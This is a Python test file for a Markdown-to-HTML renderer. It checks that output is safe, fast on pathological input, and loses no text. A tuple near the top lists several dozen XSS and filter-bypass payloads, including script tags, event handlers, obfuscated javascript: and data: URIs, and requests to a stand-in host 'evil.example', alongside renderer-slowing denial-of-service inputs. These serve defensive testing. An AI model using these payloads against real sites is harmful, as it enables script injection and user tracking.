"""Any Markdown becomes safe HTML in a short time, and none of its words are lost."""

from __future__ import annotations

import re
from collections.abc import Callable
from html.parser import HTMLParser

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from afterword.prose import html as module
from afterword.prose import markdown, simple_line
from afterword.prose.html import DEPTH_LIMIT, prose, prose_line
from afterword.prose.markdown import LENGTH_LIMIT
from afterword.prose.own_files import keep_own_files, mark_own_files, remove_own_files
from afterword.prose.plain_text import plain_line

ALLOWED: dict[str, set[str]] = {
    **{
        tag: set()
        for tag in (
            "h2", "h3", "h4", "h5", "h6", "p", "br", "hr", "em", "strong", "del", "code", "pre", "blockquote",
            "ul", "li", "table", "thead", "tbody", "tr",
        )
    },
    "ol": {"start"},
    "a": {"href", "title", "rel"},
    "th": {"align"},
    "td": {"align"},
    "img": {"src", "alt", "title"},
}  # fmt: skip
ATTACKS = (
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<a href=javascript:alert(1)>x</a>",
    "<style>@import '//evil.example'</style>",
    "<b style='background:url(//evil.example)'>x</b>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php <script>alert(1)</script> ?>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<form action=//evil.example><button>x</button></form>",
    "<base href=//evil.example/><meta http-equiv=refresh content=0>",
    "<object data=data:text/html,x></object><embed src=x>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A&#x61&#x76&#x61script:alert(1))",
    "[x](java&#9;script:alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x](&#1;javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](file:///etc/passwd)",
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    '[x](/y "\\" onmouseover=alert(1) ")',
    '[x](/y"onmouseover=alert(1))',
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml,<svg/onload=alert(1)>)",
    "![x](https://evil.example/pixel.png)",
    "![x](HTTPS://evil.example/pixel.png)",
    "![x](//evil.example/pixel.png)",
    "![x](/\\evil.example/pixel.png)",
    "![x](\\\\\\\\evil.example/pixel.png)",
    "![x](&#47;&#47;evil.example/pixel.png)",
    "![x](&#92;/evil.example/pixel.png)",
    "![x](</\t/evil.example/pixel.png>)",
    "![x](</&#9;/evil.example/pixel.png>)",
    "![x](<&#32;//evil.example/pixel.png>)",
    "![x](&Tab;https://evil.example/pixel.png)",
    "![x][y]\n\n[y]: //evil.example/pixel.png",
    '![x"onerror="alert(1)](y.png)',
    "```<img src=x onerror=alert(1)>\nx\n```",
    '```"onmouseover=alert(1)\nx\n```',
    "|<img src=x onerror=alert(1)>|\n|-|\n|<script>|",
    "# <img src=x onerror=alert(1)>",
    "`<script>alert(1)</script>`",
    "https://x.example/<script>alert(1)</script>",
    "www.x.example/\"onmouseover=alert(1)",
)  # fmt: skip
LONG = 1_000_000
SLOW = {
    "quotes": "> " * 100_000 + "a",
    "quotes without end": ">" * LONG,
    "quotes within the limit": ">" * (LENGTH_LIMIT - 1) + "a",
    "lists": "- " * 49_000 + "a",
    "numbered lists": "1. " * 33_000 + "a",
    "a list deeper by the line": "\n".join("  " * i + "- a" for i in range(300)),
    "many deep lines": ("- " * 20 + "a\n") * 2_400,
    "blank lines in a deep list": "- " * 25_000 + "a\n" + "\n" * 49_000,
    "stars": "*" * LONG,
    "emphasis begun": "*a _b " * 16_000,
    "emphasis in emphasis": "*_" * 25_000 + "a" + "_*" * 24_000,
    "strikes": "~a" * 50_000,
    "brackets": "[" * LONG,
    "pictures begun": "![" * 49_000,
    "links begun": "[a](b" * 20_000,
    "backticks": "".join("`" * i + "a" for i in range(440)),
    "underscores": "_" * LONG,
    "ampersands": "&" * LENGTH_LIMIT,
    "a wide table": "|a" * 12_000 + "|\n" + "|-" * 12_000 + "|\n" + "|\n" * 25_000,
    "a long paragraph": "word " * 200_000,
    "many paragraphs": "a\n\n" * 333_333,
    "many blanks": "a\n" + " " * (LONG - 3) + "b",
}


class Reader(HTMLParser):
    """Collects the tags and the text of HTML."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self._parts: list[str] = []
        self.feed(str(html))  # of Markup, every part that is taken would be escaped again
        self.close()
        self.text = "".join(self._parts)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self._parts.append(data)

    def handle_comment(self, data: str) -> None:
        raise AssertionError(f"a comment: {data}")

    def handle_decl(self, decl: str) -> None:
        raise AssertionError(f"a declaration: {decl}")

    def handle_pi(self, data: str) -> None:
        raise AssertionError(f"an instruction: {data}")


def assert_safe(html: str, beside: bool) -> None:
    for tag, attributes in Reader(html).tags:
        assert tag in ALLOWED
        assert beside or tag != "img"
        assert set(attributes) <= ALLOWED[tag], (tag, attributes)
        # As a browser reads it: without line breaks, tabs and surrounding spaces, a backslash like a slash.
        source = re.sub(r"[\t\r\n]", "", attributes.get("src") or "").strip("\x00\x1f ").replace("\\", "/")
        assert not re.match(r"//|[a-z][a-z0-9+.-]*:", source, re.IGNORECASE), source
        target = re.sub(r"[\t\r\n]", "", attributes.get("href") or "").strip("\x00\x1f ")
        scheme = re.match(r"([a-z][a-z0-9+.-]*):", target, re.IGNORECASE)
        assert not scheme or scheme[1].lower() in ("http", "https", "mailto"), target


def assert_all_safe(text: str) -> None:
    for html in (prose(text), prose_line(text)):
        assert_safe(html, beside=True)
        marked = mark_own_files(html)
        assert keep_own_files(marked) == html
        assert_safe(remove_own_files(marked), beside=False)


@pytest.mark.parametrize("attack", ATTACKS)
def test_no_attack_passes_the_allow_list_of_tags_attributes_and_schemes(attack: str) -> None:
    for text in (attack, f"> - {attack}", f"a *b {attack}* c", f"**x** {attack}\n\n{attack}"):
        assert_all_safe(text)


@pytest.mark.parametrize("attack", ATTACKS)
def test_no_attack_passes_in_text_that_is_too_long_or_too_deep_to_be_rendered(attack: str) -> None:
    for text in (attack + " x" * LENGTH_LIMIT, "> " * (DEPTH_LIMIT + 1) + attack):
        html = prose(text)
        assert {tag for tag, _ in Reader(html).tags} == {"p"}


@given(st.text(st.characters(codec=None)) | st.text("<>&\"'`*_~[]()!#|-+=:/\\ \n\ta1."))
def test_any_text_becomes_safe_html(text: str) -> None:
    assert_all_safe(text)


@pytest.mark.parametrize(
    "name",
    [pytest.param(name, marks=pytest.mark.slow) if name == "many paragraphs" else name for name in SLOW],
)
def test_a_megabyte_of_text_that_makes_renderers_slow_is_rendered_safely(name: str) -> None:
    """Without the limits on length and depth, some of these take minutes."""
    text = SLOW[name]
    assert len(text) <= LONG
    assert_safe(prose(text), True)


def test_text_nested_deeper_than_the_limit_is_shown_as_it_was_typed() -> None:
    text = "> " * (DEPTH_LIMIT + 1) + "deep <b>words</b>\n\nand *more*"
    html = prose(text)
    assert Reader(html).text.split() == text.split()
    assert html.count("<p>") == 2


def test_text_longer_than_the_limit_is_shown_as_it_was_typed() -> None:
    text = "*one* & <two>\n \n" + "three " * LENGTH_LIMIT
    html = prose(text)
    assert Reader(html).text.split() == text.split()
    assert html.startswith("<p>*one* &amp; &lt;two&gt;</p>\n<p>three")


def test_twenty_nested_quotes_are_still_rendered() -> None:
    assert prose("> " * 20 + "words").count("<blockquote>") == 20


def test_a_heading_is_below_that_of_its_section() -> None:
    assert prose("# What *happened*") == "<h3>What <em>happened</em></h3>"
    assert prose("# What *happened*", under=1) == "<h2>What <em>happened</em></h2>"


@pytest.mark.parametrize(
    ("typed", "shown"),
    [
        ("# A\n\n## B\n\n# C", ["h3", "h4", "h3"]),
        ("## A\n\n#### B\n\n### C\n\n## D", ["h3", "h4", "h4", "h3"]),
        ("#### A\n\n## B\n\n### C", ["h3", "h3", "h4"]),
        ("\n\n".join("#" * level + " A" for level in range(1, 7)), ["h3", "h4", "h5", "h6", "h6", "h6"]),
        ("A\n===\n\nB\n---", ["h3", "h4"]),
    ],
)
def test_the_headings_of_a_text_leave_no_level_out(typed: str, shown: list[str]) -> None:
    html = prose(typed)
    assert re.findall(r"<(h\d)>", html) == shown
    assert re.findall(r"</(h\d)>", html) == shown


def test_a_typed_heading_element_is_text() -> None:
    assert "<h" not in prose("<h1>A</h1>\n\nwords <h2>B</h2>")


def elsewhere(html: str) -> str:
    return remove_own_files(mark_own_files(html))


@pytest.mark.parametrize("render", [prose, prose_line])
def test_a_picture_beside_the_record_is_its_text_on_other_pages(render: Callable[[str], str]) -> None:
    html = render('A ![The "queue" > 5](queue.png "Queue").')
    assert '<img src="queue.png" alt="The &quot;queue&quot; &gt; 5" title="Queue">' in html
    assert "A The &quot;queue&quot; &gt; 5." in elsewhere(html)


@pytest.mark.parametrize("render", [prose, prose_line])
def test_a_link_to_a_file_beside_the_record_is_its_text_on_other_pages(render: Callable[[str], str]) -> None:
    html = render("[log](log.txt) [docs](/docs/) [place](#place) [site](https://example.com)")
    assert 'href="log.txt"' in html
    assert elsewhere(html) == html.replace(' href="log.txt"', "")


def test_a_lone_surrogate_becomes_a_question_mark() -> None:
    assert prose("a\ud800b") == "<p>a?b</p>"


def test_a_single_paragraph_has_no_p_element_in_a_line() -> None:
    assert prose_line("a *b*") == "a <em>b</em>"
    assert prose_line("a\n\nb") == "<p>a</p>\n<p>b</p>"


WORDS = st.sampled_from([
    "Searches", "the", "Größe", "a", "w", " ", "  ", "\n", "\n\n", "\r", "\t", "    ", "\xa0", "\u2028", "\x0c", "\x00",
    "\ufeff", "\ud800", ".", ",", ":", ";", "://", "http", "www.", "WWW.", "a@b.c", "`",
    "`GET /v1/a?b=c`", "`a_b c-1.2`",
    "``", "*", "**", "_", "~", "~~", "|", "|-|",
    "-", "--", ":-", "=", "1.", "+", "#", "> ", "<", ">", "&", "&amp;", "&quot;", '"', "'", "!", "[", "]", "(", ")",
    "[a](b)", "![x](y)",
    "\\", "/", "%", "…", "–", "é\u0301", "<b>", "</p>", "$", "^",
])  # fmt: skip
NEVER = re.compile(r"(?!)")
ALWAYS = re.compile("")


@given(st.lists(WORDS, max_size=12).map("".join))
@example("w\r:-")
@example("`a``b` www`.c` `a`_`b`")
@example("- a\n- `b`\n\n1. c\n\n   d")
@example('Text with **stress**, `code` and "quotes" & more.')
def test_the_fast_paths_give_the_same_bytes(text: str) -> None:
    plain = plain_line.__wrapped__  # without its cache
    fast = (prose(text), prose_line(text), plain(text))
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(simple_line, "_PLAIN", NEVER)
        patch.setattr(module, "_HARMLESS", NEVER)
        patch.setattr(markdown, "_NEEDS_EXTENSIONS", ALWAYS)
        assert fast == (prose(text), prose_line(text), plain(text))


@pytest.mark.parametrize(
    ("text", "html"),
    [
        ('The 3rd "part" (of 4) isn\'t back.', '<p>The 3rd "part" (of 4) isn\'t back.</p>'),
        ("Use `<b>` & *wait*.", "<p>Use <code>&lt;b&gt;</code> &amp; <em>wait</em>.</p>"),
    ],
)
def test_text_code_and_emphasis_need_no_sanitiser(
    monkeypatch: pytest.MonkeyPatch, text: str, html: str
) -> None:
    monkeypatch.delattr("nh3.clean")
    assert prose(text) == html


def test_text_with_a_reference_that_the_renderer_cannot_encode_is_shown_as_it_was_typed() -> None:
    assert (
        prose("Answered with &#xFFFF; for *an hour*.") == "<p>Answered with &amp;#xFFFF; for *an hour*.</p>"
    )
